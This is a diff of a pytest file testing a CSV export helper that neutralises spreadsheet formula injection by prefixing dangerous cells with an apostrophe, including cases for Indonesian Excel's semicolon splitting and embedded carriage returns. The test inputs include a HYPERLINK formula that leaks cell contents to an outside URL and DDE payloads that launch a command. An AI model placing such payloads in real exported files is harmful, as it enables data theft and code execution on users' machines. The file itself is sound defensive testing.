@@ -12,7 +12,7 @@ from consign.tabular import csv_cell, write_csv
 
 @pytest.mark.parametrize("typed", [
     '=HYPERLINK("http://example.com/?leak="&A1,"Lihat")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
-    "\r=1", "-cmd|' /C calc'!A0", "+", "-", "-5%+1", "-%",
+    "-cmd|' /C calc'!A0", "+", "-", "-5%+1", "-%",
 ])
 def test_text_a_spreadsheet_would_run_goes_out_behind_an_apostrophe(typed):
     assert csv_cell(typed) == "'" + typed
@@ -29,7 +29,8 @@ def test_plain_text_signed_numbers_and_numbers_go_out_as_they_are(value):
 @pytest.mark.parametrize(("typed", "sent"), [
     ("salah ketik;=1+1", "salah ketik;'=1+1"), ("Kain;-2+3", "Kain;'-2+3"),
     ('x; "=cmd|\' /C calc\'!A0', 'x; "\'=cmd|\' /C calc\'!A0'), ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
-    ("\t=1", "\t'=1"), ("  =1+1", "'  =1+1"), ("Batik; kain", "Batik; kain"), ("a;b;c", "a;b;c")])
+    ("\t=1", "\t'=1"), ("\r=1", "\r'=1"), ("a\r=1", "a\r'=1"), ("a\n@x", "a\n'@x"),
+    ("  =1+1", "'  =1+1"), ("Batik; kain", "Batik; kain"), ("a;b;c", "a;b;c")])
 def test_a_part_after_a_semicolon_or_a_tab_that_starts_like_a_formula_is_kept_text(typed, sent):
     """Excel in Indonesian splits a line at ";": each part becomes a cell of its own."""
     assert csv_cell(typed) == sent
